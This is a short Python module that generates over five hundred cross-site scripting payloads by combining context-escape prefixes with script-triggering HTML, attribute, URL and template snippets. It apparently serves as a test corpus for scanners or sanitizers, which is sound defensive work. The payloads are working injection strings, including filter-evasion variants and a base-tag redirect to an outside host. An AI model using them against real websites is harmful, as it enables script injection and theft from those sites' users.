"""What people type who want a script of theirs to run in the page of somebody else: at least five hundred of them.

Ways out of where a text may stand (between tags, in an attribute, in a script, in an address, in a template), times
things that make a browser run something.  Each, when it runs, sets `window.__xss` or opens a box.
"""

from itertools import product
from typing import Final

OUT: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</svg>",
    "-->",
    "]]>",
    "</option></select>",
    "\"'`>",
    "</p></li></ul>",
    '\x0b"/>',
    "&#34;&gt;",
    "%22%3E",
    '\\">',
    "<!--><",
    "</template>",
)
RUN: Final = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<video><source onerror=window.__xss=1></video>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<object data=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x",
    "<set attributeName=href to=javascript:alert(1)>",
    "<use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    " onmouseover=alert(1) ",
    '" autofocus onfocus=alert(1) x="',
    "';window.__xss=1;//",
    '";window.__xss=1;//',
    "${window.__xss=1}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{% debug %}",
    "javascript:window.__xss=1",
)


def payloads() -> list[str]:
    """All of them, in an order that is always the same."""
    return [out + run for out, run in product(OUT, RUN)]
